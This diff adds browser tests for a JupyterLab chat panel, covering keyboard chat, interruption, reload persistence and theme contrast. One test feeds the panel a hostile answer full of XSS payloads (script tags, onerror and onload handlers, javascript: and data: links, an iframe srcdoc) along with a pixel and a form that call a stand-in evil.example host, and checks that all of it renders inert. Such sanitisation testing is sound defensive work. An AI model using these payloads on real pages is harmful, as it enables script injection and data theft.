@@ -1,0 +1,252 @@
+"""The chat panel as a person uses it: JupyterLab in a real browser, in front of a real kernel."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from jupyter_lab import choose_theme, jupyter_lab, lose_kernel, notebook_page, reload, run_all, save
+from nbconvert import HTMLExporter
+from panel_service import Tap
+from playwright.sync_api import Locator, Page, expect
+from served import KEY, served, settled
+
+from skytells_nb.local.server import LocalServer
+
+CELL = "import skytells_nb as sky\npanel = sky.widgets.ChatPanel(model='gpt-5', system='Be brief.')\npanel"
+WORDS = " ".join(f"word{n}" for n in range(40))
+HOSTILE = """<script>window.hacked = 1</script> <img src="x" onerror="window.hacked = 2">
+<iframe srcdoc="<script>parent.hacked = 3</script>"></iframe> <svg onload="window.hacked = 4"></svg>
+
+[click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>)
+
+![pixel](https://evil.example/pixel?secret=1)
+
+<style>body { display: none }</style> <form action="https://evil.example/"><button>ok</button></form>
+
+<div style="position: fixed; inset: 0; z-index: 99999; background: red">cover</div>
+
+| a | b |
+|---|---|
+| 1 | `<b onmouseover=alert(1)>` |
+
+```html
+</code></pre><script>window.hacked = 7</script>
+```
+done"""
+
+expect.set_options(timeout=60_000)
+
+
+@dataclass
+class Opened:
+    """A notebook with a running panel."""
+
+    page: Page
+    panel: Locator
+    input: Locator
+    log: Locator
+    server: LocalServer
+    tap: Tap
+    file: Path
+    outside: list[str]
+    dialogs: list[str]
+    shots: Path
+
+    def turns(self) -> Locator:
+        return self.log.locator(".skytells-turn")
+
+    def ask(self, text: str) -> None:
+        """Write and send by keyboard, and wait for the whole answer."""
+        before = self.turns().count()
+        self.input.fill(text)
+        self.input.press("Enter")
+        expect(self.turns()).to_have_count(before + 2)
+        expect(self.panel.locator(".skytells-send")).to_be_visible()
+
+    def saved(self) -> Any:
+        """The notebook's file, once it holds what the page does."""
+        save(self.page)
+        self.page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")
+        return json.loads(self.file.read_text())
+
+    def shot(self, name: str) -> None:
+        self.page.screenshot(path=str(self.shots / f"panel-{name}.png"))
+
+
+@contextlib.contextmanager
+def opened(tmp_path: Path, chromium: Path) -> Iterator[Opened]:
+    """JupyterLab with the panel on the page, its kernel connected to a local Skytells of this process."""
+    root, tap, outside = tmp_path / "notebooks", Tap(), []  # type: Path, Tap, list[str]
+    root.mkdir()
+    cells = [nbformat.v4.new_code_cell(source) for source in (CELL, "1 + 1")]
+    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
+    nbformat.write(nbformat.v4.new_notebook(cells=cells, metadata=kernel), root / "chat.ipynb")
+    with contextlib.ExitStack() as stack:
+        server = stack.enter_context(served(generator=tap))
+        stack.callback(tap.flow)
+        settings = {"SKYTELLS_BASE_URL": server.base_url, "SKYTELLS_API_KEY": KEY, "SKYTELLS_CACHE": "off"}
+        lab = stack.enter_context(jupyter_lab(root, tmp_path / "lab", settings))
+        page = stack.enter_context(notebook_page(lab, "chat.ipynb", chromium, outside))
+        dialogs: list[str] = []
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        run_all(page)
+        panel = page.locator(".skytells-panel")
+        expect(panel).to_be_visible()
+        shots = Path(os.environ.get("SCREENSHOTS", tmp_path))
+        field, log = panel.locator(".skytells-input"), panel.locator(".skytells-log")
+        file = root / "chat.ipynb"
+        yield Opened(page, panel, field, log, server, tap, file, outside, dialogs, shots)
+
+
+def grown(page: Page, length: int) -> int:
+    """The length of the growing answer once it is above this one."""
+    script = """(length) => {
+        const log = document.querySelector('.skytells-log[aria-busy="true"]');
+        const answer = log?.querySelector('.skytells-turn:last-child .skytells-answer');
+        return answer && answer.textContent.length > length ? answer.textContent.length : 0;
+    }"""
+    return int(page.wait_for_function(script, arg=length).json_value())
+
+
+@pytest.mark.slow
+@pytest.mark.browser
+@pytest.mark.timeout(300)
+def test_a_conversation_by_keyboard_outlives_page_and_kernel(tmp_path: Path, chromium: Path) -> None:
+    """Type, watch it grow, stop it, ask on; a reload shows every turn, and the saved file needs no kernel."""
+    with opened(tmp_path, chromium) as lab:
+        expect(lab.page.locator(".skytells-chat")).to_be_hidden()
+        lab.tap.shut()
+        lab.input.focus()
+        lab.page.keyboard.type("first line")
+        lab.page.keyboard.press("Shift+Enter")
+        lab.page.keyboard.type(WORDS)
+        lab.page.keyboard.press("Enter")
+        lengths = [grown(lab.page, 0)]
+        for _ in range(3):
+            lab.tap.let(6)
+            lengths.append(grown(lab.page, lengths[-1]))
+        expect(lab.input).to_have_value("")
+        lab.page.keyboard.press("Escape")
+        expect(lab.log.locator(".skytells-ending")).to_contain_text("interrupted")
+        assert settled(lab.server, "chat").in_flight == 0
+        assert not lab.server.stats.records[-1].complete
+        partial = lab.log.locator(".skytells-answer").inner_text().strip()
+        assert "word0" in partial
+        assert "word39" not in partial
+
+        lab.tap.flow()
+        expect(lab.input).to_be_focused()
+        lab.page.keyboard.type("and the second?\n")
+        expect(lab.turns()).to_have_count(4)
+        expect(lab.turns().last).to_contain_text("and the second?")
+        system, question, answer, _ = lab.tap.messages[-1]
+        assert system == {"role": "system", "content": "Be brief."}
+        assert question == {"role": "user", "content": f"first line\n{WORDS}"}
+        assert answer["content"].split() == partial.split()
+        assert lab.page.locator(".jp-Cell").count() == 2
+
+        lab.saved()
+        lab.tap.shut()
+        lab.page.keyboard.type(f"during the reload {WORDS}\n")
+        grown(lab.page, 0)
+        reload(lab.page)
+        expect(lab.turns()).to_have_count(6)
+        lab.tap.let(6)
+        grown(lab.page, 0)
+        lab.panel.locator(".skytells-stop").click()
+        expect(lab.log.locator(".skytells-ending")).to_have_count(2)
+        expect(lab.input).to_be_focused()
+        lab.tap.flow()
+        expect(lab.log.locator(".skytells-answer").first).to_have_text(partial, use_inner_text=True)
+        lab.ask("after the reload")
+        expect(lab.page.locator(".skytells-chat")).to_be_hidden()
+
+        outputs = lab.saved()["cells"][0]["outputs"]
+        kept = "".join(outputs[1]["data"]["text/plain"])
+        assert kept.count("after the reload") == 2
+        assert "word0" in kept
+        assert KEY not in lab.file.read_text()
+        page, _ = HTMLExporter().from_filename(str(lab.file))
+        assert page.count("after the reload") == 2
+        lose_kernel(lab.page)
+        transcript = lab.page.locator(".skytells-chat")
+        expect(transcript).to_be_visible()
+        expect(transcript).to_contain_text("after the reload")
+        lab.shot("saved")
+        assert lab.outside == []
+
+
+@pytest.mark.slow
+@pytest.mark.browser
+@pytest.mark.timeout(300)
+def test_a_hostile_answer_is_text_in_every_theme(tmp_path: Path, chromium: Path) -> None:
+    """No script, no request, no dialog, nothing over the page; keys on the panel's buttons are no notebook commands."""
+    with opened(tmp_path, chromium) as lab:
+        lab.ask(HOSTILE)
+        expect(lab.turns().last).to_contain_text("done")
+        for link in lab.log.locator(".skytells-answer a").all():
+            assert (link.get_attribute("href") or "").startswith("https://evil.example/")
+            assert link.get_attribute("target") == "_blank"
+        harmful = "script, img, iframe, svg, style, form, [onerror], [onload], [style]"
+        assert lab.log.locator(".skytells-answer").locator(harmful).count() == 0
+        lab.ask("violence:low words")
+        expect(lab.turns().last.locator(".skytells-badge")).to_contain_text("violence low in the answer")
+
+        lab.ask("violence:high words")
+        expect(lab.turns().last.locator(".skytells-problem")).to_contain_text("The safety filter blocked this prompt.")
+        expect(lab.turns().last.locator(".skytells-badge")).to_contain_text("prompt blocked")
+        expect(lab.input).to_have_value("violence:high words")
+
+        models = lab.panel.locator(".skytells-models")
+        models.focus()
+        lab.page.keyboard.press("ArrowDown")
+        chosen = models.input_value()
+        assert chosen != "gpt-5"
+        lab.panel.locator(".skytells-send").focus()
+        lab.page.keyboard.press("x")
+        lab.page.keyboard.press("d")
+        lab.page.keyboard.press("d")
+        expect(lab.page.locator(".jp-Cell")).to_have_count(2)
+        lab.ask("for another model")
+        assert lab.server.stats.records[-1].model == chosen
+
+        lab.turns().last.locator(".skytells-copy").click()
+        expect(lab.turns().last.locator(".skytells-copy")).to_have_text("Copied")
+        lab.input.fill("")
+        lab.input.focus()
+        lab.page.keyboard.press("Control+V")
+        expect(lab.input).to_have_value("for another model")
+
+        for theme in ("JupyterLab Light", "JupyterLab Dark"):
+            choose_theme(lab.page, theme)
+            lab.shot(theme.split()[-1].lower())
+            colour, ground = lab.panel.evaluate(
+                "(node) => [getComputedStyle(node).color, getComputedStyle(document.querySelector('.jp-Notebook'))"
+                ".backgroundColor]"
+            )
+            assert contrast(colour, ground) > 7
+        lab.page.set_viewport_size({"width": 420, "height": 900})
+        expect(lab.panel).to_be_visible()
+        assert lab.panel.evaluate("(node) => node.scrollWidth <= node.clientWidth")
+        lab.shot("narrow")
+        assert lab.page.evaluate("window.hacked") is None
+        assert lab.dialogs == []
+        assert lab.outside == []
+
+
+def contrast(colour: str, ground: str) -> float:
+    """The ratio of WCAG 2 between two opaque or almost opaque CSS colours."""
+    light = []
+    for css in (colour, ground):
+        parts = [float(part) / 255 for part in css[css.index("(") + 1 : -1].split(",")[:3]]
+        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
+        light.append(0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2])
+    return (max(light) + 0.05) / (min(light) + 0.05)
